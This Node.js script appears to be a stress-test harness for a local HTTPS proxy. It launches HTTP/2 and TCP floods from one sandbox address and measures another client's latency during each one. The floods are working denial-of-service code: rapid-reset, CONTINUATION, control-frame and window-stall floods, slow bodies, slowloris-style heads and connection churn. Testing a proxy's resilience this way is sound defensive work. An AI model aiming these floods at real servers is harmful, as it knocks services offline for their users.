// One sandbox attacks, another works: its latency before and during each flood.
// node flood.mjs PROXY_PORT HOST CA_FILE ATTACKER_IP WORKER_IP [SECONDS] [FLOOD…]
// Both addresses must be registered as two containers. The attacker runs in a process of its own (fork).
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { readFileSync } from 'node:fs';
import { fork } from 'node:child_process';

const [port, host, caFile, attacker, worker, seconds = '30', ...chosen] = process.argv.slice(2);
const ca = readFileSync(caFile);
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

function tunnel(localAddress, alpn) {
  return new Promise((resolve, reject) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress }, () => {
      socket.write(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`);
      socket.once('data', (head) => {
        if (!String(head).startsWith('HTTP/1.1 200')) return reject(new Error(String(head)));
        const tls = connectTls({ socket, servername: host, ca, ALPNProtocols: [alpn] }, () => resolve(tls));
        tls.on('error', reject);
      });
    });
    socket.on('error', reject);
    socket.on('close', () => reject(new Error('closed before the tunnel was there')));
  });
}

// ---- frames by hand (RFC 9113 section 4.1) ----
function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
const literal = (name, value) =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const block = (method = 'GET', more = []) =>
  Buffer.concat([literal(':method', method), literal(':scheme', 'https'), literal(':path', '/v1/json'),
    literal(':authority', host), ...more]);
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
const HEADERS = 1, RST = 3, SETTINGS = 4, PING = 6, WINDOW = 8, CONTINUATION = 9;

const perConnection = {
  'rapid-reset': (n) => Buffer.concat([frame(HEADERS, 5, n, block()), frame(RST, 0, n, Buffer.from([0, 0, 0, 8]))]),
  continuation: (n) => n === 1 ? frame(HEADERS, 0, 1, block()) : frame(CONTINUATION, 0, 1, Buffer.alloc(0)),
  settings: () => frame(SETTINGS, 0, 0),
  ping: () => frame(PING, 0, 0, Buffer.alloc(8)),
  'empty-data': (n) => n === 1 ? frame(HEADERS, 4, 1, block('POST')) : frame(0, 0, 1),
  'window-update': () => frame(WINDOW, 0, 0, Buffer.from([0, 0, 0, 1])),
  unknown: () => frame(0x77, 0, 0, Buffer.alloc(16)),
};

async function floodConnection(make, until) {
  const tls = await tunnel(attacker, 'h2');
  tls.on('error', () => {});
  tls.resume();
  tls.write(preface);
  let n = 1;
  while (Date.now() < until && !tls.destroyed && tls.writable) {
    const pieces = [];
    for (let i = 0; i < 100; i++, n += 2) pieces.push(make(n));
    if (!tls.write(Buffer.concat(pieces))) {
      await Promise.race([new Promise((resolve) => tls.once('drain', resolve)), sleep(50)]);
    } else {
      await sleep(0);
    }
  }
  tls.destroy();
}

/** An HTTP/2 connection of the attacker that has said its preface; null after a pause when there is none. */
async function attack() {
  const tls = await tunnel(attacker, 'h2').catch(() => null);
  if (!tls) { await sleep(5); return null; }
  tls.on('error', () => {});
  tls.resume();
  tls.write(preface);
  return tls;
}

const floods = {
  ...Object.fromEntries(Object.entries(perConnection).map(([name, make]) => [name, async (until) => {
    while (Date.now() < until) await Promise.all(Array.from({ length: 4 }, () => floodConnection(make, until).catch(() => sleep(5))));
  }])),
  // Requests for large bodies of which nothing is ever taken.
  'window-stall': async (until) => {
    const stall = frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
    while (Date.now() < until) {
      const tls = await attack();
      if (!tls) continue;
      tls.write(stall);
      for (let n = 1; n < 200; n += 2) tls.write(frame(HEADERS, 5, n, block()));
      await sleep(100);
    }
  },
  // Bodies of which a byte comes now and then, on every stream that a connection may have.
  'slow-body': async (until) => {
    while (Date.now() < until) {
      const tls = await attack();
      if (!tls) continue;
      for (let n = 1; n < 256; n += 2) tls.write(frame(HEADERS, 4, n, block('POST')));
      while (Date.now() < until && !tls.destroyed) {
        for (let n = 1; n < 256; n += 2) tls.write(frame(0, 0, n, Buffer.from('x')));
        await sleep(20);
      }
      tls.destroy();
    }
  },
  'slow-heads': async (until) => {
    const open = [];
    while (Date.now() < until) {
      if (open.length < 400) {
        const socket = connect({ port, host: '127.0.0.1', localAddress: attacker }, () => socket.write('GET http://'));
        socket.on('error', () => {});
        open.push(socket);
      }
      for (const socket of open) if (socket.writable && Math.random() < 0.05) socket.write('x');
      await sleep(2);
    }
  },
  connections: async (until) => {
    while (Date.now() < until) {
      await Promise.all(Array.from({ length: 20 }, () => new Promise((resolve) => {
        const socket = connect({ port, host: '127.0.0.1', localAddress: attacker }, () => { socket.destroy(); resolve(); });
        socket.on('error', resolve);
      })));
    }
  },
};

// ---- the worker: 100 requests a second on one connection, from the scheduled instant ----
async function work(ms) {
  const tls = await tunnel(worker, 'http/1.1');
  const times = [];
  let waiting;
  tls.on('data', (data) => { if (String(data).includes('HTTP/1.1 ')) waiting?.(String(data)); });
  const begun = performance.now();
  for (let i = 0; performance.now() - begun < ms; i++) {
    const due = begun + i * 10;
    if (due > performance.now()) await sleep(due - performance.now());
    const answer = await new Promise((resolve) => {
      waiting = resolve;
      tls.write(`GET /v1/json HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    });
    if (!answer.startsWith('HTTP/1.1 200')) throw new Error(answer.slice(0, 100));
    times.push(performance.now() - due);
  }
  tls.destroy();
  times.sort((a, b) => a - b);
  return { p50: times[times.length >> 1], p99: times[Math.floor(times.length * 0.99)] };
}

if (process.send) {
  await floods[chosen[0]](Date.now() + Number(seconds) * 1000);
  process.exit(0);
}
await work(3000);
for (const name of chosen.length ? chosen : Object.keys(floods)) {
  const quiet = await work(Number(seconds) * 500);
  const child = fork(process.argv[1], [port, host, caFile, attacker, worker, seconds, name]);
  const over = new Promise((resolve) => child.once('exit', resolve)); // it may end before the worker does
  await sleep(500);
  const flooded = await work((Number(seconds) - 1) * 1000);
  await over;
  console.log(`${name.padEnd(14)} p50 ${quiet.p50.toFixed(2)} -> ${flooded.p50.toFixed(2)} ms, p99 ${quiet.p99.toFixed(2)} -> ${flooded.p99.toFixed(2)} ms, ratio ${(flooded.p99 / quiet.p99).toFixed(2)}`);
}
process.exit(0);
